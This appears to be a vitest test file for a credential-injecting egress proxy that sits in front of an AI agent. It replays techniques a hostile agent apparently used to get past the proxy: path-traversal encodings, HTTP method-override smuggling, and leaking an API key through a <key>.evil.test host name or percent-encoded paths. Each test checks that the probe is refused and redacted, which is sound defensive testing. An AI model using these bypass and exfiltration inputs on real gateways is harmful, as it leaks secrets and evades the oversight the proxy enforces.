import { once } from "node:events";
import http from "node:http";
import type net from "node:net";
import tls from "node:tls";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startEgressProxy, type EgressProxy } from "./proxy.js";
import { connectTunnel, makeWorkspace, proxiedHttp, route, startUpstream, TEST_HOSTS, type Upstream, type Workspace, startWorkspaceProxy } from "./__fixtures__/harness.js";

// Probes a hostile agent used to get past egress (issue 13), through the real proxy on real TLS.
const KEY = "sk-ant-api03-bypassKey7Hq2Zx9Lm4Wv0Tt";
const hosts = Object.fromEntries([...TEST_HOSTS, "plain.test", "cleartext.test"].map((h) => [h, "127.0.0.1"]));

let upstream: Upstream;
let plain: http.Server;
let plainPort: number;
const plainSeen: { url: string; headers: http.IncomingHttpHeaders }[] = [];
let ws: Workspace;
let proxy: EgressProxy;

beforeAll(async () => {
  upstream = await startUpstream();
  plain = http.createServer((req, res) => {
    plainSeen.push({ url: req.url ?? "", headers: req.headers });
    res.end("plain ok");
  });
  plain.listen(0, "127.0.0.1");
  await once(plain, "listening");
  plainPort = (plain.address() as net.AddressInfo).port;
  ws = await makeWorkspace(upstream.caPem, { "api.key": KEY }, [
    route({ id: "api", host: "api.test", methods: ["GET", "POST"], paths: ["/v1/"], inject: [{ header: "x-api-key", secret: "api.key", prefix: "" }] }),
    route({ id: "cleartext", host: "cleartext.test", inject: [{ header: "x-api-key", secret: "api.key", prefix: "" }] }),
    route({ id: "plain", host: "plain.test", scheme: "http", inject: [{ header: "x-api-key", secret: "api.key", prefix: "" }] }),
    route({ id: "other", host: "other.test" }),
  ]);
  proxy = await startWorkspaceProxy(ws, { hosts });
});

afterAll(async () => {
  await proxy?.close();
  await upstream?.close();
  plain?.close();
  await ws?.cleanup();
});

interface RawResponse {
  status: number;
  head: string;
  body: string;
}

/** Sends bytes exactly as given over TLS through a CONNECT tunnel (no client normalises the path). */
async function rawHttps(host: string, request: string | Buffer): Promise<RawResponse> {
  const tunnel = await connectTunnel(proxy.port, host, upstream.port);
  const socket = tls.connect({ socket: tunnel.socket, servername: host, ca: [ws.caPem] });
  await once(socket, "secureConnect");
  socket.write(request);
  const chunks: Buffer[] = [];
  for await (const chunk of socket) chunks.push(chunk as Buffer);
  return parseResponse(Buffer.concat(chunks).toString("utf8"));
}

function parseResponse(text: string): RawResponse {
  const split = text.indexOf("\r\n\r\n");
  const head = split === -1 ? text : text.slice(0, split);
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0), head, body: split === -1 ? "" : text.slice(split + 4) };
}

const request = (method: string, path: string, headers: Record<string, string> = {}, body = ""): string =>
  `${method} ${path} HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n` +
  Object.entries({ ...headers, ...(body ? { "content-length": String(Buffer.byteLength(body)) } : {}) })
    .map(([k, v]) => `${k}: ${v}\r\n`)
    .join("") +
  `\r\n${body}`;

/** Requests the upstream received while `probe` ran. */
async function forwarded(probe: () => Promise<unknown>): Promise<string[]> {
  const before = upstream.seen.length;
  await probe();
  return upstream.seen.slice(before).map((s) => `${s.method} ${s.url}`);
}

describe("credentials only over TLS", () => {
  it("refuses plain HTTP to a route that injects over TLS only: the key never leaves in cleartext", async () => {
    const before = plainSeen.length;
    const res = await proxiedHttp(proxy.port, `http://cleartext.test:${plainPort}/x`);
    expect(res.status).toBe(403);
    expect(res.body).toContain("Plain HTTP");
    expect(plainSeen.length).toBe(before);
  });

  it("refuses plain HTTP to port 443 even on a route that allows http", async () => {
    const res = await proxiedHttp(proxy.port, "http://plain.test:443/x");
    expect(res.status).toBe(403);
    expect(res.body).toContain("Plain HTTP");
  });

  it("refuses plain HTTP inside a CONNECT tunnel to a TLS-only route, promptly", async () => {
    const tunnel = await connectTunnel(proxy.port, "cleartext.test", plainPort);
    const before = plainSeen.length;
    tunnel.socket.write("GET /x HTTP/1.1\r\nhost: cleartext.test\r\nconnection: close\r\n\r\n");
    const chunks: Buffer[] = [];
    for await (const chunk of tunnel.socket) chunks.push(chunk as Buffer);
    expect(parseResponse(Buffer.concat(chunks).toString("utf8")).status).toBe(403);
    expect(plainSeen.length).toBe(before);
  });

  it("injects into plain HTTP where the route says scheme http", async () => {
    const res = await proxiedHttp(proxy.port, `http://plain.test:${plainPort}/ok`);
    expect(res.status).toBe(200);
    expect(plainSeen.at(-1)!.headers["x-api-key"]).toBe(KEY);
  });
});

describe("paths a path-limited route refuses", () => {
  it.each([
    ["a `;` parameter after dot segments", "/v1/..;/admin"],
    ["a backslash", "/v1/..\\admin"],
    ["an encoded backslash", "/v1/..%5cadmin"],
    ["encoded dots and backslash", "/v1/%2e%2e%5cadmin"],
    ["a fragment", "/v1/..#/admin"],
    ["an encoded slash", "/v1/..%2fadmin"],
    ["a lone encoded dot segment", "/v1/%2e%2e/admin"],
    ["a dot segment", "/v1/../admin"],
    ["a double-encoded dot", "/v1/%252e%252e/admin"],
  ])("refuses %s (%s) without forwarding it", async (_what, path) => {
    let res!: RawResponse;
    const seen = await forwarded(async () => (res = await rawHttps("api.test", request("GET", path))));
    expect(res.status).toBe(403);
    expect(res.body).toContain("do not allow the path");
    expect(seen).toEqual([]);
  });

  it("still forwards an ordinary path under the prefix (control)", async () => {
    const seen = await forwarded(() => rawHttps("api.test", request("GET", "/v1/messages?x=1")));
    expect(seen).toEqual(["GET /v1/messages?x=1"]);
  });
});

describe("method overrides on a method-limited route", () => {
  it.each([
    ["X-HTTP-Method-Override", request("POST", "/v1/items", { "x-http-method-override": "DELETE" })],
    ["X-HTTP-Method", request("POST", "/v1/items", { "X-HTTP-Method": "DELETE" })],
    ["X-Method-Override", request("POST", "/v1/items", { "x-method-override": "DELETE" })],
    ["a _method form field", request("POST", "/v1/items", { "content-type": "application/x-www-form-urlencoded" }, "a=1&_method=DELETE")],
    ["an encoded _method form field", request("POST", "/v1/items", { "content-type": "application/x-www-form-urlencoded" }, "%5Fmethod=DELETE")],
    ["a _method JSON field", request("POST", "/v1/items", { "content-type": "application/json" }, '{"_method":"DELETE"}')],
    ["an escaped _method JSON key", request("POST", "/v1/items", { "content-type": "application/json; charset=utf-8" }, '{"a":1,"\\u005fMETHOD":"DELETE"}')],
    ["a _method multipart field", request("POST", "/v1/items", { "content-type": "multipart/form-data; boundary=b" }, '--b\r\nContent-Disposition: form-data; name="_method"\r\n\r\nDELETE\r\n--b--\r\n')],
    ["a _method form field without a content type", request("POST", "/v1/items", {}, "_method=DELETE")],
    ["a _method query field", request("POST", "/v1/items?_method=DELETE")],
  ])("refuses %s", async (_what, raw) => {
    let res!: RawResponse;
    const seen = await forwarded(async () => (res = await rawHttps("api.test", raw)));
    expect(res.status).toBe(403);
    expect(res.body).toContain("asks for another method");
    expect(seen).toEqual([]);
  });

  it("forwards a conversation that only mentions _method (a model request quoting code)", async () => {
    const quoted = JSON.stringify({
      model: "m",
      messages: [{ role: "user", content: [{ type: "tool_result", content: '<input type="hidden" name="_method" value="DELETE">\nparams[:_method] = "DELETE"; {"_method": "DELETE"}\n$ curl -d _method=DELETE https://app/items/1' }] }],
    });
    const seen = await forwarded(() => rawHttps("api.test", request("POST", "/v1/items", { "content-type": "application/json" }, quoted)));
    expect(seen).toEqual(["POST /v1/items"]);
  });

  it("forwards the same POST without an override (control)", async () => {
    const seen = await forwarded(() => rawHttps("api.test", request("POST", "/v1/items", { "content-type": "application/json" }, '{"method":"x"}')));
    expect(seen).toEqual(["POST /v1/items"]);
  });
});

describe("no known value in audit lines or error texts", () => {
  const hostKey = KEY.toLowerCase();

  async function inAuditAndBody(probe: () => Promise<RawResponse>): Promise<{ body: string; audit: string }> {
    const res = await probe();
    const id = /x-bottle-request-id: (\S+)/i.exec(res.head)?.[1];
    expect(id).toBeDefined();
    const lines = await ws.readAudit((ls) => ls.some((l) => l["id"] === id));
    return { body: res.head + res.body, audit: JSON.stringify(lines.find((l) => l["id"] === id)) };
  }

  it("redacts a host name that carries the key (CONNECT and SNI to <key>.evil.test)", async () => {
    const host = `${hostKey}.evil.test`;
    const seen = await inAuditAndBody(async () => {
      const tunnel = await connectTunnel(proxy.port, host, 443);
      const socket = tls.connect({ socket: tunnel.socket, servername: host, ca: [ws.caPem] });
      await once(socket, "secureConnect");
      socket.write(`GET / HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`);
      const chunks: Buffer[] = [];
      for await (const chunk of socket) chunks.push(chunk as Buffer);
      return parseResponse(Buffer.concat(chunks).toString("utf8"));
    });
    expect(seen.body).toContain("403 Forbidden");
    expect(seen.body.toLowerCase()).not.toContain(hostKey);
    expect(seen.audit.toLowerCase()).not.toContain(hostKey);
    expect(seen.audit).toContain("[redacted: carries secret api.key]");
  });

  it("keeps a token the pattern scan found in the path out of the audit line, raw or percent-encoded", async () => {
    const token = `ghp_${"Zq8Lm2Xv7Rk4Tn9Wb3Yc6Hd1Jf5Gs0Pa8Ue2"}`;
    const encoded = [...Buffer.from(token)].map((b) => "%" + b.toString(16)).join("");
    for (const path of [`/v1/repos/${token}/x`, `/v1/repos/${encoded}/x`]) {
      const seen = await inAuditAndBody(() => rawHttps("api.test", request("GET", path)));
      expect(seen.body).toContain("403");
      expect(seen.audit).toContain("block-pattern");
      expect(seen.audit).not.toContain(token.slice(4));
      expect(seen.audit).not.toContain(encoded.slice(12));
    }
  });

  it("redacts a plain-HTTP host name and a path that carry the key, encoded or not", async () => {
    const viaHttp = await proxiedHttp(proxy.port, `http://${hostKey}.evil.test/x`);
    expect(viaHttp.status).toBe(403);
    expect(viaHttp.body.toLowerCase()).not.toContain(hostKey);
    const encoded = [...Buffer.from(KEY)].map((b) => "%" + b.toString(16)).join("");
    const seen = await inAuditAndBody(() => rawHttps("api.test", request("GET", `/v2/${encoded}/x`)));
    expect(seen.body).toContain("403");
    expect(seen.audit).not.toContain(encoded);
    expect(seen.audit).not.toContain(KEY);
    const audit = (await ws.readAudit()).map((l) => JSON.stringify(l)).join("\n").toLowerCase();
    expect(audit).not.toContain(hostKey);
  });
});

describe("idle sockets", () => {
  it("closes a CONNECT tunnel and a bare connection that stay silent", async () => {
    const quick = await startEgressProxy({
      routesFile: ws.routesFile,
      secretsFile: ws.secretsFile,
      caCertFile: ws.caCertFile,
      caKeyFile: ws.caKeyFile,
      hosts,
      idleTimeoutMs: 200,
      log: () => {},
    });
    try {
      const tunnel = await connectTunnel(quick.port, "other.test", upstream.port);
      expect(tunnel.status).toBe(200);
      await once(tunnel.socket, "close");
      const { connect } = await import("node:net");
      const bare = connect(quick.port, "127.0.0.1");
      await once(bare, "connect");
      await once(bare, "close");
    } finally {
      await quick.close();
    }
  });
});
